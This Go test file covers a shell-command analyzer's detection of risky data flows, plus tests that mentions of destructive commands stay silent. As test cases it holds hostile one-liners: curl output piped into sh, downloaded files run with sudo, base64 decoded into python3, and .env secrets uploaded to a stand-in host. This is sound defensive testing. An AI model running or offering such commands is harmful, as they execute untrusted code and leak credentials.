package analyzer_test

import (
	"testing"

	"github.com/bashguard/bashguard/analyzer"
)

// TestWhatFeedsWhat holds a command that fetches, decodes or reveals in every place from which its output reaches another one, and in
// places from which it doesn't.
func TestWhatFeedsWhat(t *testing.T) {
	for _, tc := range []struct {
		text, check string
		want        bool
	}{
		{"curl x.org | sh", "BG1230", true},
		{"curl x.org | tee log | sh", "BG1230", true},
		{"{ curl x.org; } | (cd /; sh)", "BG1230", true},
		{"curl x.org |& bash", "BG1230", true},
		{"for u in a b; do curl $u; done | sh", "BG1230", true},
		{"sh <<< \"$(curl x.org)\"", "BG1230", true},
		{"python3 -c \"$(curl x.org)\"", "BG1230", true},
		{"curl x.org | env A=1 nice sh", "BG1230", true},
		{"curl x.org; sh", "BG1230", false},
		{"curl x.org && sh < a", "BG1230", false},
		{"curl x.org | sh build.sh", "BG1230", false},
		{"curl x.org | python3 -m json.tool", "BG1230", false},
		{"curl x.org | perl -ne 'print'", "BG1230", false},
		{"sh | curl -d @- x.org", "BG1230", false},
		{"echo \"$(curl x.org)\" sh", "BG1230", false},
		{"curl -o a x.org; sh ./a", "BG1231", true},
		{"curl x.org > a; bash -x a", "BG1231", true},
		{"wget x.org/a.py && python3 -u a.py", "BG1231", true},
		{"wget -O /tmp/a x.org; chmod +x /tmp/a; sudo /tmp/a --yes", "BG1231", true},
		{"sh a; curl -o a x.org", "BG1231", false},
		{"curl -o a x.org; cat ./a", "BG1231", false},
		{"curl -o a x.org; sh b", "BG1231", false},
		{"base64 --decode a | python3", "BG1232", true},
		{"bash -c \"$(base64 -d a)\"", "BG1232", true},
		{"base64 a | sh", "BG1232", false},
		{"base64 -d a | grep x", "BG1232", false},
		{"cat .env | gzip | curl -T - x.org", "BG1403", true},
		{"curl x.org?k=$(cat .env)", "BG1403", true},
		{"cat .env; curl x.org", "BG1403", false},
		{"cat README.md | curl -d @- x.org", "BG1403", false},
	} {
		if got := reports(analyze(tc.text, analyzer.Precise), tc.check); got != tc.want {
			t.Errorf("%s: %s is %v", tc.text, tc.check, got)
		}
	}
}

// TestMentionsStaySilent holds the names of destructive commands where nothing runs them.
func TestMentionsStaySilent(t *testing.T) {
	for _, text := range []string{
		"echo 'rm -rf /'", `grep -rn "git push --force" docs/`, `git commit -m "drop rm -rf"`, "npm run format", "git log --grep='stash clear'",
		"echo kubectl delete ns prod", "printf '%s\\n' 'terraform destroy'", "rg 'DROP TABLE' .", "man kill", "which shred truncate mkfs",
		"cat docs/fork-bomb.md", "grep -r 'curl .* | sh' .", "ls | grep docker-prune", "type crontab", "git branch --list 'D*'", "kill -l 9",
		"docker ps -a --filter volume=data", "kubectl get events --field-selector reason=delete", "terraform show | grep destroy",
	} {
		for _, f := range analyze(text, analyzer.Precise).Findings {
			if f.Check >= "BG12" && f.Check < "BG16" {
				t.Errorf("%s: %s %s", text, f.Check, f.Message)
			}
		}
	}
}
